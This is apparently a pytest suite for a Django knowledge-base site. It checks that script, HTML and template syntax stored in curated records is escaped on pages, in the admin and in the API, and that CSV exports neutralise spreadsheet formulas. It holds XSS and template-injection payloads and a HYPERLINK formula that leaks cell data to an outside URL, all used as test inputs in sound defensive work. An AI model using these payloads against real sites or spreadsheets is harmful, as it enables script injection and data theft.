"""Curated text holding HTML, script or template syntax is shown as text everywhere, never run."""

import csv
import io
import json

import pytest
from django.apps import apps
from django.urls import reverse

from kb.core.querysets import PUBLIC
from kb.delivery.renderers import spreadsheet_safe
from kb.models import Source
from kb.search import index_record
from tests.helpers import KINDS

pytestmark = pytest.mark.django_db

SCRIPT = '<script>alert("kb")</script><img src=x onerror=alert(1)>{{ 7|add:1 }}{% now "Y" %}'
RAW = ("<script>alert", "<img src=x")  # what must never reach a page unescaped
ESCAPED = "&lt;script&gt;alert("
TEXT_FIELDS = ("name", "name_as_printed", "description", "curator_note", "quote")


@pytest.fixture
def scripted():
    """One published record of every kind, its text fields holding the payload (saved: a history row each)."""
    records = {}
    for label in KINDS:
        model = apps.get_model(label)
        record = model.objects.visible_to(PUBLIC).order_by("pk").first()
        for name in TEXT_FIELDS:
            field = next((f for f in model._meta.concrete_fields if f.name == name), None)
            if field is not None and not field.choices and name != model.url_key:
                setattr(record, name, (SCRIPT + f" {label}")[: field.max_length or None])
        record.save()
        index_record(record)
        records[label] = model.objects.get(pk=record.pk)
    Source.objects.filter(slug="review").update(description=SCRIPT)
    return records


def assert_escaped(response, where):
    assert response.status_code == 200, where
    html = response.content.decode()
    for raw in RAW:
        assert raw not in html, f"{where} shows {raw!r} unescaped"
    assert ESCAPED in html, f"{where} does not show the payload at all"
    assert "{{ 7|add:1 }}" in html.replace("&#x27;", "'"), f"{where} ran template syntax"


def test_every_page_shows_curated_script_as_text(client, scripted):
    urls = {"/", "/search/?q=alert", "/sources/review/"}
    for record in scripted.values():
        urls |= {record.get_absolute_url(), record.get_absolute_url().rsplit("/", 2)[0] + "/"}
    for url in sorted(urls):
        response = client.get(url)
        if url in ("/", "/sources/review/") or url.count("/") > 2:
            assert_escaped(response, url)
        else:
            assert response.status_code == 200


def test_the_hub_graph_and_the_chart_escape_their_labels(client, scripted):
    mechanism = scripted["mechanisms.Mechanism"]
    assert_escaped(client.get(mechanism.get_absolute_url()), "the mechanism's graph")
    svg = client.get(reverse("biomarkers:microrna_list")).content.decode()
    assert "<svg" in svg and "<script>alert" not in svg and ESCAPED in svg


def test_the_admin_escapes_curated_script(admin_client, scripted):
    for record in scripted.values():
        opts = record._meta
        base = f"/admin/{opts.app_label}/{opts.model_name}/"
        for url in (
            base,
            f"{base}{record.pk}/change/",
            f"{base}{record.pk}/history/",
            f"{base}{record.pk}/history/diff/",
        ):
            response = admin_client.get(url)
            assert response.status_code == 200, url
            html = response.content.decode()
            assert not any(raw in html for raw in RAW), f"{url} shows the payload unescaped"


def test_the_api_returns_the_text_exactly_as_data(api_client, scripted):
    record = scripted["mechanisms.Mechanism"]
    response = api_client.get(f"/api/v1/mechanisms/{record.slug}/")
    assert response["Content-Type"] == "application/json" and response["X-Content-Type-Options"] == "nosniff"
    assert json.loads(response.content)["name"] == record.name  # data, exactly as curated
    browsable = api_client.get(f"/api/v1/mechanisms/{record.slug}/?format=api", HTTP_ACCEPT="text/html")
    assert browsable.status_code == 200
    assert not any(raw in browsable.content.decode() for raw in RAW)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_a_spreadsheet_would_run_are_neutralised(api_client, start):
    model = apps.get_model("mechanisms.Mechanism")
    record = model.objects.visible_to(PUBLIC).order_by("pk").first()
    formula = f'{start}HYPERLINK("http://example.org/?"&A1,"open")'
    model.objects.filter(pk=record.pk).update(curator_note=formula, description=f"{start}1+1")
    rows = list(
        csv.DictReader(io.StringIO(api_client.get("/api/v1/mechanisms/?format=csv").getvalue().decode(), newline=""))
    )
    row = next(r for r in rows if r["slug"] == record.slug)
    assert row["curator_note"] == "'" + formula
    assert row["description"] == f"'{start}1+1"


def test_numbers_and_plain_text_are_not_touched():
    assert spreadsheet_safe("-1.5") == "-1.5" and spreadsheet_safe("+2e3") == "+2e3"
    assert spreadsheet_safe(-3) == -3 and spreadsheet_safe("P-gp") == "P-gp"
    assert spreadsheet_safe("-") == "'-"  # a lone minus is text, and a spreadsheet could read it as a formula's start
